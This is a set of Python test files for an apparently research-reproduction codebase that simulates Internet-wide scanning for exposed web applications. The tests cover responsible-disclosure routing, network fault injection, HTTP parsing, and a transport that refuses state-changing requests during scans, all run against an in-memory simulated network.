    assert format_offset(DAY - 1) == "d00 23:59"
    assert format_offset(DAY) == "d01 00:00"
    assert format_offset(10 * DAY + 23 * HOUR + 59 * 60) == "d10 23:59"
