"""Tests for the responsible-disclosure planner (§3.2)."""

import pytest

from repro.net.geo import IpMetadata
from repro.net.ipv4 import IPv4Address
from repro.notify.planner import (
    CLOUD_PROVIDERS,
    DisclosureChannel,
    DisclosurePlanner,
)


class _StubTransport:
    """Transport stub exposing only certificate fetches."""

    def __init__(self, certs):
        self.certs = certs  # (ip_value, port) -> Certificate

    def fetch_certificate(self, ip, port):
        return self.certs.get((ip.value, port))


class _StubGeo:
    def __init__(self, records):
        self.records = records

    def lookup(self, ip):
        return self.records.get(
            ip.value, IpMetadata("Nowhere", "AS0", "Unknown ISP", False)
        )


def _cert(domain):
    from repro.net.tls import Certificate

    return Certificate(domain, (f"www.{domain}",), 0.0, "R3")


IP_CLOUD = IPv4Address.parse("93.184.216.30")
IP_CERT = IPv4Address.parse("93.184.216.31")
IP_DARK = IPv4Address.parse("93.184.216.32")


@pytest.fixture()
def planner():
    geo = _StubGeo({
        IP_CLOUD.value: IpMetadata("United States", "AS16509", "Amazon EC2", True),
    })
    transport = _StubTransport({(IP_CERT.value, 443): _cert("blog.example")})
    return DisclosurePlanner(transport=transport, geo=geo)


class TestRouting:
    def test_cloud_ip_batched_to_provider(self, planner):
        plan = planner.plan([(IP_CLOUD, "docker", 2375)])
        notification = plan.notifications[0]
        assert notification.channel is DisclosureChannel.CLOUD_PROVIDER
        assert notification.recipient == "Amazon EC2"

    def test_certificate_domain_gets_security_email(self, planner):
        plan = planner.plan([(IP_CERT, "wordpress", 443)])
        notification = plan.notifications[0]
        assert notification.channel is DisclosureChannel.SECURITY_EMAIL
        assert notification.recipient == "security@blog.example"

    def test_no_channel_means_unreachable(self, planner):
        plan = planner.plan([(IP_DARK, "hadoop", 8088)])
        assert plan.notifications[0].channel is DisclosureChannel.UNREACHABLE

    def test_cloud_takes_precedence_over_certificate(self):
        geo = _StubGeo({
            IP_CLOUD.value: IpMetadata("US", "AS14061", "DigitalOcean", True)
        })
        transport = _StubTransport({(IP_CLOUD.value, 443): _cert("x.example")})
        planner = DisclosurePlanner(transport=transport, geo=geo)
        plan = planner.plan([(IP_CLOUD, "nomad", 4646)])
        assert plan.notifications[0].channel is DisclosureChannel.CLOUD_PROVIDER

    def test_app_port_tried_before_443(self):
        geo = _StubGeo({})
        transport = _StubTransport({(IP_CERT.value, 8443): _cert("api.example")})
        planner = DisclosurePlanner(transport=transport, geo=geo)
        plan = planner.plan([(IP_CERT, "kubernetes", 8443)])
        assert plan.notifications[0].recipient == "security@api.example"

    def test_self_signed_cert_unreachable(self):
        from repro.net.tls import Certificate

        cert = Certificate("localhost", (), 0.0, "self", self_signed=True)
        planner = DisclosurePlanner(
            transport=_StubTransport({(IP_CERT.value, 443): cert}),
            geo=_StubGeo({}),
        )
        plan = planner.plan([(IP_CERT, "consul", 8500)])
        assert plan.notifications[0].channel is DisclosureChannel.UNREACHABLE


class TestPlanAggregation:
    def test_provider_batches(self, planner):
        plan = planner.plan([
            (IP_CLOUD, "docker", 2375),
            (IP_CLOUD, "hadoop", 8088),
        ])
        batches = plan.provider_batches()
        assert len(batches["Amazon EC2"]) == 2

    def test_coverage(self, planner):
        plan = planner.plan([
            (IP_CLOUD, "docker", 2375),
            (IP_CERT, "wordpress", 443),
            (IP_DARK, "hadoop", 8088),
        ])
        assert plan.coverage() == pytest.approx(2 / 3)

    def test_empty_plan_coverage(self, planner):
        assert planner.plan([]).coverage() == 0.0

    def test_summary_table(self, planner):
        plan = planner.plan([(IP_CLOUD, "docker", 2375)])
        assert "cloud-provider" in plan.summary_table().render()

    def test_cloud_providers_include_papers_top_ases(self):
        # Table 4's top hosting ASes must all be directly contactable.
        for provider in ("Amazon EC2", "Alibaba", "Amazon AES",
                         "DigitalOcean", "Google Cloud"):
            assert provider in CLOUD_PROVIDERS


class _TimingOutTransport(_StubTransport):
    """Cert fetches on listed ports time out instead of answering."""

    def __init__(self, certs, dead_ports):
        super().__init__(certs)
        self.dead_ports = dead_ports

    def fetch_certificate(self, ip, port):
        from repro.util.errors import ConnectionTimeout

        if port in self.dead_ports:
            raise ConnectionTimeout(f"injected timeout on {port}")
        return super().fetch_certificate(ip, port)


class TestTransientCertFailures:
    """Regression: a timed-out handshake must not crash the planner."""

    def test_timeout_on_app_port_falls_back_to_443(self):
        transport = _TimingOutTransport(
            {(IP_CERT.value, 443): _cert("blog.example")}, dead_ports={8088}
        )
        planner = DisclosurePlanner(transport=transport, geo=_StubGeo({}))
        plan = planner.plan([(IP_CERT, "hadoop", 8088)])
        notification = plan.notifications[0]
        assert notification.channel is DisclosureChannel.SECURITY_EMAIL
        assert notification.recipient == "security@blog.example"

    def test_timeouts_everywhere_mean_unreachable(self):
        transport = _TimingOutTransport({}, dead_ports={443, 8088})
        planner = DisclosurePlanner(transport=transport, geo=_StubGeo({}))
        plan = planner.plan([(IP_CERT, "hadoop", 8088)])
        assert plan.notifications[0].channel is DisclosureChannel.UNREACHABLE


class TestEndToEnd:
    def test_plan_for_real_scan(self, tiny_scan_study):
        """Plan disclosure for the actual pipeline findings."""
        findings = []
        for finding in tiny_scan_study.report.findings.values():
            for slug in finding.vulnerable_slugs:
                observation = finding.observations[slug]
                findings.append((finding.ip, slug, observation.port))
        planner = DisclosurePlanner(
            transport=tiny_scan_study.transport, geo=tiny_scan_study.geo
        )
        plan = planner.plan(findings)
        assert len(plan.notifications) == len(findings)
        # The big clouds host most vulnerable assets (Table 4), so the
        # provider channel must dominate.
        by_provider = plan.by_channel(DisclosureChannel.CLOUD_PROVIDER)
        assert len(by_provider) > 0.3 * len(findings)
        assert 0.3 < plan.coverage() <= 1.0
