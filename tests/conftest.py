"""Shared fixtures.

The expensive artefacts (a generated Internet, a full scan, the honeypot
study) are session-scoped: tests treat them as read-only measurement
results, so sharing them is safe and keeps the suite fast.
"""

from __future__ import annotations

import pytest

from repro.apps.catalog import scanned_ports
from repro.core.pipeline import ScanPipeline
from repro.experiments.config import StudyConfig
from repro.experiments.defenders import run_defender_study
from repro.experiments.honeypots import run_honeypot_study
from repro.experiments.observe import run_observer_study
from repro.experiments.scan import run_scan_study
from repro.net.population import PopulationModel, generate_internet
from repro.net.transport import InMemoryTransport


@pytest.fixture(scope="session")
def tiny_config() -> StudyConfig:
    return StudyConfig.tiny()


@pytest.fixture(scope="session")
def tiny_internet():
    """A small generated Internet: (internet, geo, census)."""
    return generate_internet(
        PopulationModel(awe_rate=0.002, vuln_rate=0.05, background_rate=2e-7)
    )


@pytest.fixture(scope="session")
def tiny_scan_study(tiny_config):
    """A full §3 scan at test scale."""
    return run_scan_study(tiny_config)


@pytest.fixture(scope="session")
def calibrated_scan_study():
    """A scan with vuln_rate=1.0: all 4,221 vulnerable hosts, no extras.

    Background and the sampled secure population are turned way down so
    the absolute MAV numbers can be compared with the paper's Table 3.
    """
    config = StudyConfig(
        population=PopulationModel(
            awe_rate=0.01, vuln_rate=1.0, background_rate=1e-7
        )
    )
    return run_scan_study(config)


@pytest.fixture(scope="session")
def observer_study(tiny_scan_study):
    return run_observer_study(tiny_scan_study)


@pytest.fixture(scope="session")
def honeypot_study(tiny_config):
    """The §4 study at full attack calibration (2,195 events)."""
    return run_honeypot_study(tiny_config)


@pytest.fixture(scope="session")
def defender_study():
    return run_defender_study()


@pytest.fixture()
def pipeline_factory():
    """Build a pipeline against any internet, without fingerprinting."""

    def factory(internet, fingerprint: bool = False, **kwargs) -> ScanPipeline:
        transport = InMemoryTransport(internet)
        return ScanPipeline(
            transport, scanned_ports(), fingerprint=fingerprint, **kwargs
        )

    return factory
