"""Tests for the chaos transport and its fault taxonomy."""

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance, scanned_ports
from repro.core.pipeline import ScanPipeline
from repro.core.retry import RetryPolicy
from repro.net.chaos import ChaosTransport, FaultPlan
from repro.net.flaky import FlakyTransport
from repro.net.host import Host, Service
from repro.net.http import HttpRequest, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import EthicsViolation, InMemoryTransport
from repro.util.clock import SimClock
from repro.util.errors import ConnectionReset, ConnectionTimeout, TransportError


@pytest.fixture()
def world():
    internet = SimulatedInternet()
    ip = IPv4Address.parse("93.184.216.80")
    host = Host(ip)
    host.add_service(
        Service(8192, app=AppInstance(create_instance("polynote"), 8192))
    )
    internet.add_host(host)
    return internet, ip


class TestFaultPlan:
    def test_zero_plan_is_transparent(self, world):
        internet, ip = world
        transport = ChaosTransport(InMemoryTransport(internet))
        assert transport.syn_probe(ip, 8192)
        assert transport.get(ip, 8192, "/").status == 200
        assert transport.faults == {}

    def test_rates_validated(self):
        with pytest.raises(ValueError):
            FaultPlan(reset_rate=1.5)
        with pytest.raises(ValueError):
            FaultPlan(flap_down=700.0, flap_period=600.0)
        with pytest.raises(ValueError):
            FaultPlan(slow_latency=-1.0)

    def test_packet_loss_shorthand(self):
        plan = FaultPlan.packet_loss(0.25)
        assert plan.syn_loss == plan.request_loss == 0.25
        assert plan.reset_rate == 0.0

    def test_scaled(self):
        plan = FaultPlan(syn_loss=0.2, reset_rate=0.4, slow_latency=5.0)
        half = plan.scaled(0.5)
        assert half.syn_loss == pytest.approx(0.1)
        assert half.reset_rate == pytest.approx(0.2)
        assert half.slow_latency == 5.0  # durations are not rates
        assert plan.scaled(10.0).reset_rate == 1.0  # capped


class TestFaultInjection:
    def test_syn_loss(self, world):
        internet, ip = world
        transport = ChaosTransport(
            InMemoryTransport(internet), FaultPlan(syn_loss=1.0)
        )
        assert not transport.syn_probe(ip, 8192)
        assert transport.faults["syn-drop"] == 1

    def test_request_loss(self, world):
        internet, ip = world
        transport = ChaosTransport(
            InMemoryTransport(internet), FaultPlan(request_loss=1.0)
        )
        with pytest.raises(ConnectionTimeout):
            transport.get(ip, 8192, "/")
        assert transport.faults["request-drop"] == 1

    def test_connection_reset(self, world):
        internet, ip = world
        transport = ChaosTransport(
            InMemoryTransport(internet), FaultPlan(reset_rate=1.0)
        )
        with pytest.raises(ConnectionReset):
            transport.get(ip, 8192, "/")
        assert transport.faults["reset"] == 1

    def test_slow_responses_charge_the_clock(self, world):
        internet, ip = world
        clock = SimClock()
        transport = ChaosTransport(
            InMemoryTransport(internet),
            FaultPlan(slow_rate=1.0, slow_latency=30.0),
            clock=clock,
        )
        response = transport.get(ip, 8192, "/")
        assert response.status == 200  # the answer still arrives
        assert clock.now == pytest.approx(30.0)
        assert transport.slow_seconds == pytest.approx(30.0)
        assert transport.faults["slow"] == 1

    def test_truncated_bodies(self, world):
        internet, ip = world
        plain = InMemoryTransport(internet).get(ip, 8192, "/").body
        transport = ChaosTransport(
            InMemoryTransport(internet), FaultPlan(truncate_rate=1.0)
        )
        body = transport.get(ip, 8192, "/").body
        assert len(body) <= len(plain) // 2
        assert transport.faults["truncate"] == 1

    def test_garbled_bodies(self, world):
        internet, ip = world
        plain = InMemoryTransport(internet).get(ip, 8192, "/").body
        transport = ChaosTransport(
            InMemoryTransport(internet), FaultPlan(garble_rate=1.0)
        )
        body = transport.get(ip, 8192, "/").body
        assert body != plain
        assert len(body) == 64
        assert transport.faults["garble"] == 1

    def test_flapping_host_goes_down_and_comes_back(self, world):
        internet, ip = world
        clock = SimClock()
        transport = ChaosTransport(
            InMemoryTransport(internet),
            FaultPlan(flap_rate=1.0, flap_down=120.0, flap_period=600.0),
            clock=clock,
        )
        seen = []
        for _ in range(20):
            seen.append(transport.syn_probe(ip, 8192))
            clock.advance(60.0)
        assert True in seen and False in seen  # down for a while, then back
        assert transport.faults["flap"] == seen.count(False)
        # ~2 of every 10 minutes down
        assert 0.1 < seen.count(False) / len(seen) < 0.4

    def test_slash24_outage_hits_the_whole_block(self, world):
        internet, ip = world
        sibling = IPv4Address(ip.value + 1)
        sibling_host = Host(sibling)
        sibling_host.add_service(
            Service(8192, app=AppInstance(create_instance("polynote"), 8192))
        )
        internet.add_host(sibling_host)
        clock = SimClock()
        transport = ChaosTransport(
            InMemoryTransport(internet),
            FaultPlan(outage_rate=1.0, outage_down=300.0, outage_period=3600.0),
            clock=clock,
        )
        agree, down_seen, up_seen = True, False, False
        for _ in range(24):
            first = transport.syn_probe(ip, 8192)
            second = transport.syn_probe(sibling, 8192)
            agree = agree and (first == second)
            down_seen = down_seen or not first
            up_seen = up_seen or first
            clock.advance(300.0)
        assert agree  # same /24: the outage takes both down together
        assert down_seen and up_seen

    def test_requests_fail_during_flap(self, world):
        internet, ip = world
        clock = SimClock()
        transport = ChaosTransport(
            InMemoryTransport(internet),
            FaultPlan(flap_rate=1.0, flap_down=600.0, flap_period=600.0),
            clock=clock,
        )
        with pytest.raises(ConnectionTimeout):
            transport.get(ip, 8192, "/")
        with pytest.raises(ConnectionTimeout):
            transport.fetch_certificate(ip, 8192)

    def test_certificate_fetch_drops_raise(self, world):
        internet, ip = world
        transport = ChaosTransport(
            InMemoryTransport(internet), FaultPlan(request_loss=1.0)
        )
        with pytest.raises(ConnectionTimeout):
            transport.fetch_certificate(ip, 8192)

    def test_deterministic_per_seed(self, world):
        internet, ip = world
        plan = FaultPlan(syn_loss=0.3, request_loss=0.3, reset_rate=0.2)
        runs = []
        for _ in range(2):
            transport = ChaosTransport(InMemoryTransport(internet), plan, seed=42)
            outcomes = []
            for _ in range(60):
                outcomes.append(transport.syn_probe(ip, 8192))
                try:
                    outcomes.append(transport.get(ip, 8192, "/").body)
                except ConnectionTimeout:
                    outcomes.append("timeout")
                except ConnectionReset:
                    outcomes.append("reset")
            runs.append(outcomes)
        assert runs[0] == runs[1]

    def test_snapshot_restore_replays_fault_stream(self, world):
        internet, ip = world
        plan = FaultPlan(syn_loss=0.5)
        transport = ChaosTransport(InMemoryTransport(internet), plan, seed=7)
        for _ in range(10):
            transport.syn_probe(ip, 8192)
        state = transport.snapshot_state()
        tail = [transport.syn_probe(ip, 8192) for _ in range(30)]

        fresh = ChaosTransport(InMemoryTransport(internet), plan, seed=7)
        fresh.restore_state(state)
        assert [fresh.syn_probe(ip, 8192) for _ in range(30)] == tail
        assert fresh.faults == transport.faults  # counters restored too


class TestStatsDelegation:
    def test_decorators_share_innermost_stats(self, world):
        """Regression: wrapped transports must not split load counters."""
        internet, ip = world
        innermost = InMemoryTransport(internet)
        chain = ChaosTransport(FlakyTransport(innermost), FaultPlan())
        assert chain.stats is innermost.stats
        chain.syn_probe(ip, 8192)
        chain.get(ip, 8192, "/")
        assert innermost.stats.syn_probes == 1
        assert innermost.stats.http_requests == 1
        block = ip.value & 0xFFFFFF00
        assert innermost.stats.requests_per_slash24 == {block: 1}

    def test_dropped_operations_still_count_as_load(self, world):
        # An injected drop happens after the request left the scanner: it
        # is still pipeline load, so the shared counters must include it.
        internet, ip = world
        innermost = InMemoryTransport(internet)
        chain = ChaosTransport(innermost, FaultPlan(request_loss=1.0))
        with pytest.raises(ConnectionTimeout):
            chain.get(ip, 8192, "/")
        assert innermost.stats.http_requests == 1

    def test_ethics_enforced_through_wrapped_chain(self, world):
        internet, ip = world
        chain = FlakyTransport(
            ChaosTransport(InMemoryTransport(internet), FaultPlan())
        )
        with pytest.raises(EthicsViolation):
            chain.request(ip, 8192, Scheme.HTTP, HttpRequest.post("/admin"))


ALL_FAULTS = FaultPlan(
    syn_loss=0.1,
    request_loss=0.1,
    reset_rate=0.1,
    slow_rate=0.1,
    slow_latency=5.0,
    truncate_rate=0.1,
    garble_rate=0.1,
    flap_rate=0.3,
    flap_down=120.0,
    flap_period=600.0,
    outage_rate=0.3,
    outage_down=120.0,
    outage_period=1200.0,
)


class TestPipelineUnderChaos:
    def _world(self):
        internet = SimulatedInternet()
        ips = []
        # routable block: stage I excludes IANA-reserved TEST-NETs
        base = IPv4Address.parse("93.184.220.10").value
        for offset, slug in enumerate(("polynote", "docker", "hadoop", "grav")):
            ip = IPv4Address(base + offset)
            host = Host(ip)
            port = {"polynote": 8192, "docker": 2375, "hadoop": 8088, "grav": 80}[slug]
            host.add_service(Service(port, app=AppInstance(create_instance(slug), port)))
            internet.add_host(host)
            ips.append(ip)
        return internet, ips

    def test_no_fault_type_crashes_any_stage(self):
        """Acceptance: faults surface as misses, never as exceptions."""
        internet, ips = self._world()
        clock = SimClock()
        transport = ChaosTransport(
            InMemoryTransport(internet), ALL_FAULTS, seed=5, clock=clock
        )
        pipeline = ScanPipeline(transport, scanned_ports(), fingerprint=True)
        pipeline.run(ips)  # must not raise, whatever gets through

    def test_no_fault_type_crashes_with_retries_either(self):
        internet, ips = self._world()
        clock = SimClock()
        transport = ChaosTransport(
            InMemoryTransport(internet), ALL_FAULTS, seed=5, clock=clock
        )
        pipeline = ScanPipeline(
            transport, scanned_ports(), fingerprint=True,
            retry_policy=RetryPolicy(max_attempts=3), clock=clock,
        )
        report = pipeline.run(ips)
        assert report.retry_stats.attempts >= report.retry_stats.operations

    def test_single_fault_types_each_survive_the_pipeline(self):
        internet, ips = self._world()
        single_plans = [
            FaultPlan(syn_loss=0.5),
            FaultPlan(request_loss=0.5),
            FaultPlan(reset_rate=0.5),
            FaultPlan(slow_rate=0.5, slow_latency=2.0),
            FaultPlan(truncate_rate=0.5),
            FaultPlan(garble_rate=0.5),
            FaultPlan(flap_rate=1.0, flap_down=300.0, flap_period=600.0),
            FaultPlan(outage_rate=1.0, outage_down=300.0, outage_period=600.0),
        ]
        for plan in single_plans:
            clock = SimClock()
            transport = ChaosTransport(
                InMemoryTransport(internet), plan, seed=3, clock=clock
            )
            pipeline = ScanPipeline(transport, scanned_ports(), fingerprint=False)
            pipeline.run(ips)  # must not raise


class TestChaosFork:
    def test_fork_is_deterministic_per_shard_seed(self, world):
        """Two forks with the same shard seed behave identically; the
        parallel engine's byte-identity rests on this."""
        internet, ip = world
        plan = FaultPlan(syn_loss=0.3, request_loss=0.3, reset_rate=0.1)

        def outcomes(shard_seed):
            clock = SimClock()
            parent = ChaosTransport(
                InMemoryTransport(internet), plan, seed=21, clock=clock
            )
            child = parent.fork(shard_seed, SimClock())
            results = []
            for _ in range(40):
                results.append(child.syn_probe(ip, 8192))
                try:
                    results.append(child.get(ip, 8192, "/").status)
                except TransportError as exc:
                    results.append(type(exc).__name__)
            return results

        assert outcomes(5) == outcomes(5)
        assert outcomes(5) != outcomes(6)  # shards draw distinct fault streams

    def test_fork_keeps_time_keyed_faults(self, world):
        """Flap/outage membership is a property of the simulated network,
        not of the shard: forks agree on which hosts are affected."""
        internet, ip = world
        plan = FaultPlan(flap_rate=1.0, flap_down=120.0, flap_period=600.0)
        parent = ChaosTransport(
            InMemoryTransport(internet), plan, seed=21, clock=SimClock()
        )
        # same wall of simulated time => same flap windows in every fork
        for t in range(0, 1200, 60):
            clock_a, clock_b = SimClock(), SimClock()
            fork_a = parent.fork(3, clock_a)
            fork_b = parent.fork(9, clock_b)
            clock_a.advance(t)
            clock_b.advance(t)
            assert fork_a.syn_probe(ip, 8192) == fork_b.syn_probe(ip, 8192)

    def test_fork_does_not_touch_parent_stats(self, world):
        internet, ip = world
        parent = ChaosTransport(
            InMemoryTransport(internet), FaultPlan(), seed=21, clock=SimClock()
        )
        child = parent.fork(1, SimClock())
        child.syn_probe(ip, 8192)
        assert child.stats.syn_probes == 1
        assert parent.stats.syn_probes == 0


class TestLatencyAndPoisonFaults:
    """The supervised-runtime fault families: hangs, stalls, poison."""

    def test_hang_charges_full_latency_without_watchdog(self, world):
        internet, ip = world
        clock = SimClock()
        transport = ChaosTransport(
            InMemoryTransport(internet), FaultPlan(hang_rate=1.0),
            seed=3, clock=clock,
        )
        with pytest.raises(ConnectionTimeout):
            transport.get(ip, 8192, "/")
        assert clock.now == pytest.approx(3600.0)  # default hang_latency
        assert transport.hang_seconds == pytest.approx(3600.0)
        assert transport.faults.get("hang") == 1

    def test_watchdog_caps_the_hang_charge(self, world):
        internet, ip = world
        clock = SimClock()
        transport = ChaosTransport(
            InMemoryTransport(internet), FaultPlan(hang_rate=1.0),
            seed=3, clock=clock,
        )
        transport.watchdog = 25.0
        with pytest.raises(ConnectionTimeout):
            transport.get(ip, 8192, "/")
        assert clock.now == pytest.approx(25.0)
        assert transport.hang_seconds == pytest.approx(25.0)

    def test_stall_delivers_late_without_watchdog(self, world):
        internet, ip = world
        clock = SimClock()
        transport = ChaosTransport(
            InMemoryTransport(internet),
            FaultPlan(stall_rate=1.0, stall_latency=90.0),
            seed=3, clock=clock,
        )
        response = transport.get(ip, 8192, "/")
        assert response.body  # the bytes do arrive, eventually
        assert clock.now == pytest.approx(90.0)
        assert transport.stall_seconds == pytest.approx(90.0)

    def test_watchdog_abandons_the_stalled_read(self, world):
        internet, ip = world
        clock = SimClock()
        transport = ChaosTransport(
            InMemoryTransport(internet),
            FaultPlan(stall_rate=1.0, stall_latency=90.0),
            seed=3, clock=clock,
        )
        transport.watchdog = 30.0
        with pytest.raises(ConnectionTimeout):
            transport.get(ip, 8192, "/")
        assert clock.now == pytest.approx(30.0)

    def test_poison_raises_a_non_transport_error(self, world):
        """Poison models a parser crash, so it must NOT look like a
        transport fault — the retry executor classifies on that."""
        internet, ip = world
        transport = ChaosTransport(
            InMemoryTransport(internet), FaultPlan(poison_rate=1.0), seed=3
        )
        with pytest.raises(RuntimeError) as excinfo:
            transport.get(ip, 8192, "/")
        assert not isinstance(excinfo.value, TransportError)
        assert transport.faults.get("poison") == 1

    def test_watchdog_survives_fork(self, world):
        internet, _ = world
        transport = ChaosTransport(InMemoryTransport(internet), FaultPlan())
        transport.watchdog = 15.0
        assert transport.fork(5, SimClock()).watchdog == 15.0

    def test_scaled_plan_scales_the_new_rates(self):
        plan = FaultPlan(
            hang_rate=0.1, stall_rate=0.2, poison_rate=0.3, hang_latency=50.0
        )
        scaled = plan.scaled(2.0)
        assert scaled.hang_rate == pytest.approx(0.2)
        assert scaled.stall_rate == pytest.approx(0.4)
        assert scaled.poison_rate == pytest.approx(0.6)
        assert scaled.hang_latency == 50.0  # durations are not rates

    def test_snapshot_roundtrips_latency_fault_state(self, world):
        """Snapshot equality: restoring a snapshot and re-snapshotting
        must reproduce it byte for byte, hang/stall state included."""
        internet, ip = world
        clock = SimClock()
        plan = FaultPlan(hang_rate=0.3, stall_rate=0.3, stall_latency=45.0)
        transport = ChaosTransport(
            InMemoryTransport(internet), plan, seed=11, clock=clock
        )
        for _ in range(20):
            try:
                transport.get(ip, 8192, "/")
            except ConnectionTimeout:
                pass
        assert transport.hang_seconds + transport.stall_seconds > 0
        state = transport.snapshot_state()
        assert state["hang_seconds"] == transport.hang_seconds
        assert state["stall_seconds"] == transport.stall_seconds

        fresh = ChaosTransport(InMemoryTransport(internet), plan, seed=11)
        fresh.restore_state(state)
        assert fresh.snapshot_state() == state

    def test_restore_tolerates_pre_latency_checkpoints(self, world):
        """Checkpoints written before the hang/stall faults existed carry
        neither field; restore must default them to zero."""
        internet, _ = world
        transport = ChaosTransport(
            InMemoryTransport(internet), FaultPlan(syn_loss=0.5), seed=7
        )
        state = transport.snapshot_state()
        del state["hang_seconds"], state["stall_seconds"]
        fresh = ChaosTransport(
            InMemoryTransport(internet), FaultPlan(syn_loss=0.5), seed=7
        )
        fresh.restore_state(state)
        assert fresh.hang_seconds == 0.0
        assert fresh.stall_seconds == 0.0
