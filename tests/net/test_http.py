"""Tests for the HTTP message model."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.net.http import (
    HttpRequest,
    HttpResponse,
    Scheme,
    parse_wire_request,
    parse_wire_response,
)


class TestHttpRequest:
    def test_get_constructor(self):
        request = HttpRequest.get("/path")
        assert request.method == "GET"
        assert not request.is_state_changing

    def test_post_is_state_changing(self):
        assert HttpRequest.post("/x", "body").is_state_changing

    def test_relative_path_rejected(self):
        with pytest.raises(ValueError):
            HttpRequest("GET", "no-slash")

    def test_header_names_lowercased(self):
        request = HttpRequest("GET", "/", headers={"X-Token": "abc"})
        assert request.headers["x-token"] == "abc"

    def test_query_parsing(self):
        request = HttpRequest.get("/install.php?step=1&lang=en")
        assert request.query == {"step": "1", "lang": "en"}
        assert request.path_only == "/install.php"

    def test_query_keeps_blank_values(self):
        assert HttpRequest.get("/x?a=").query == {"a": ""}

    def test_form_parsing(self):
        request = HttpRequest.post("/x", "a=1&b=two")
        assert request.form == {"a": "1", "b": "two"}


class TestHttpResponse:
    def test_ok(self):
        response = HttpResponse.ok("hello")
        assert response.status == 200
        assert response.reason == "OK"

    def test_redirect(self):
        response = HttpResponse.redirect("/login")
        assert response.is_redirect
        assert response.location == "/login"

    def test_redirect_requires_redirect_status(self):
        with pytest.raises(ValueError):
            HttpResponse.redirect("/x", status=200)

    def test_non_redirect_has_no_location(self):
        assert not HttpResponse.ok("x").is_redirect
        assert HttpResponse.ok("x").location is None

    def test_unauthorized_carries_www_authenticate(self):
        response = HttpResponse.unauthorized("Jenkins")
        assert response.status == 401
        assert "Jenkins" in response.headers["www-authenticate"]

    def test_json_content_type(self):
        assert HttpResponse.json("{}").content_type == "application/json"


class TestWireFormat:
    def test_request_roundtrip(self):
        request = HttpRequest.post("/a/b?c=1", "payload", headers={"x-h": "v"})
        parsed = parse_wire_request(request.to_wire())
        assert parsed.method == "POST"
        assert parsed.path == "/a/b?c=1"
        assert parsed.body == "payload"
        assert parsed.headers["x-h"] == "v"

    def test_response_roundtrip(self):
        response = HttpResponse(404, {"content-type": "text/html"}, "gone")
        parsed = parse_wire_response(response.to_wire())
        assert parsed.status == 404
        assert parsed.body == "gone"
        assert parsed.content_type == "text/html"

    @given(
        st.sampled_from(["GET", "POST", "PUT"]),
        st.text(
            alphabet=st.characters(whitelist_categories=("Ll", "Nd")), max_size=20
        ),
        st.text(
            alphabet=st.characters(whitelist_categories=("Ll", "Nd", "Zs")),
            max_size=100,
        ),
    )
    def test_wire_roundtrip_property(self, method, path_part, body):
        request = HttpRequest(method, "/" + path_part, body=body)
        parsed = parse_wire_request(request.to_wire())
        assert parsed.method == method
        assert parsed.path == "/" + path_part
        assert parsed.body == body


def test_scheme_str():
    assert str(Scheme.HTTP) == "http"
    assert str(Scheme.HTTPS) == "https"
