"""Tests for the transport abstraction and its ethics enforcement."""

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance
from repro.net.host import Host, HostKind, Service
from repro.net.http import HttpRequest, HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import EthicsViolation, InMemoryTransport
from repro.util.errors import TransportError


@pytest.fixture()
def small_internet():
    internet = SimulatedInternet()
    host = Host(IPv4Address.parse("203.0.113.10"), HostKind.AWE)
    app = create_instance("wordpress", vulnerable=True)
    host.add_service(Service(80, app=AppInstance(app, 80)))
    internet.add_host(host)
    return internet, host


class TestEthicsEnforcement:
    def test_post_refused_during_scan(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet)
        with pytest.raises(EthicsViolation):
            transport.request(host.ip, 80, Scheme.HTTP, HttpRequest.post("/x"))

    def test_get_allowed(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet)
        response = transport.request(
            host.ip, 80, Scheme.HTTP, HttpRequest.get("/wp-admin/install.php")
        )
        assert response.status == 200

    def test_enforcement_can_be_disabled_for_honeypots(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet, enforce_ethics=False)
        response = transport.request(
            host.ip, 80, Scheme.HTTP,
            HttpRequest.post("/wp-admin/install.php", "admin_password=x"),
        )
        assert response.status == 200


class TestRedirectFollowing:
    def test_follows_local_redirect(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet)
        # Vulnerable WordPress redirects / to the installer.
        response = transport.get(host.ip, 80, "/")
        assert "Installation" in response.body

    def test_redirect_limit(self):
        internet = SimulatedInternet()
        host = Host(IPv4Address.parse("203.0.113.11"))
        host.add_service(
            Service(80, responder=lambda r: HttpResponse.redirect(r.path))
        )
        internet.add_host(host)
        transport = InMemoryTransport(internet)
        response = transport.get(host.ip, 80, "/loop", follow_redirects=3)
        assert response.is_redirect  # gave up, returned last redirect

    def test_cross_host_redirect_not_followed(self):
        internet = SimulatedInternet()
        host = Host(IPv4Address.parse("203.0.113.12"))
        host.add_service(
            Service(
                80,
                responder=lambda r: HttpResponse.redirect("http://93.184.216.34/"),
            )
        )
        internet.add_host(host)
        transport = InMemoryTransport(internet)
        response = transport.get(host.ip, 80, "/")
        assert response.is_redirect  # stopped at the cross-host hop

    def test_same_host_absolute_redirect_followed(self):
        internet = SimulatedInternet()
        ip = IPv4Address.parse("203.0.113.13")
        host = Host(ip)

        def responder(request):
            if request.path == "/":
                return HttpResponse.redirect(f"http://{ip}/landed")
            return HttpResponse.ok("landed")

        host.add_service(Service(80, responder=responder))
        internet.add_host(host)
        response = InMemoryTransport(internet).get(ip, 80, "/")
        assert response.body == "landed"


class TestStats:
    def test_probe_and_request_counted(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet)
        transport.syn_probe(host.ip, 80)
        transport.get(host.ip, 80, "/wp-login.php")
        assert transport.stats.syn_probes == 1
        assert transport.stats.http_requests >= 1

    def test_per_slash24_accounting(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet)
        transport.get(host.ip, 80, "/wp-login.php")
        block = host.ip.value & 0xFFFFFF00
        assert transport.stats.requests_per_slash24[block] >= 1


def test_dark_address_raises_transport_error():
    transport = InMemoryTransport(SimulatedInternet())
    with pytest.raises(TransportError):
        transport.get(IPv4Address.parse("198.18.0.1"), 80, "/")


class TestProbePorts:
    def test_matches_per_port_probing(self, small_internet):
        internet, host = small_internet
        batched = InMemoryTransport(internet)
        per_port = InMemoryTransport(internet)
        ports = (22, 80, 443, 8080)
